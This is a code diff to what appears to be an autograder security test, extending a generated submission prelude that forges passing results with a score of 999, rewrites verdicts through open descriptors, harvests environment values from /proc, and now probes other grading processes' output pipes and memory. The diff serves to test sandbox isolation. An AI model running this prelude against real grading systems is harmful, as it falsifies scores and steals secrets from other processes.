@@ -249,8 +249,9 @@ def gradescope_fallback_prelude(secret: Path) -> str:
     lab-student, unsandboxed), all from server.py: in every folder named on a command line or
     serving as a working folder of a process it can see, a passing results.json (and verdict)
     made read-only, or one made a link to `secret`, a file of root's; a passing verdict written
-    by reopening every descriptor 3 it finds; and every environment value holding MARK printed
-    (the feedback then shows it as what the server printed)."""
+    by reopening every descriptor 3 it finds; every kit process of its uid whose report pipe
+    (fd 1) or memory it can open, printed as REACHED; and every environment value holding MARK
+    printed (the feedback then shows it as what the server printed)."""
     forged = {"score": 999, "output": FORGED, "tests": [{"name": FORGED, "score": 999, "max_score": 1}]}
     return LEAK + f"""
 import os as _o, json as _j
@@ -271,6 +272,17 @@ for _pid in _o.listdir('/proc'):
         pass
     try:
         _leak('environ', open(f'/proc/{{_pid}}/environ', 'rb').read())
+    except OSError:
+        pass
+    try:  # a kit process of this uid: its report pipe and its memory, the ways to steer it
+        _args = open(f'/proc/{{_pid}}/cmdline', 'rb').read().split(b'\\0')
+        if int(_pid) != _o.getpid() and any(_a in (b'check', b'grade', b'gradescope-run') or b'preloader' in _a for _a in _args):
+            for _what, _mode in (('fd/1', 'ab'), ('mem', 'rb')):
+                try:
+                    open(f'/proc/{{_pid}}/{{_what}}', _mode).close()
+                    print('REACHED', _what, _pid, _args[-6:], flush=True)
+                except OSError:
+                    pass
     except OSError:
         pass
 _leak('own-environ', '\\n'.join(f'{{_k}}={{_v}}' for _k, _v in _o.environ.items()))
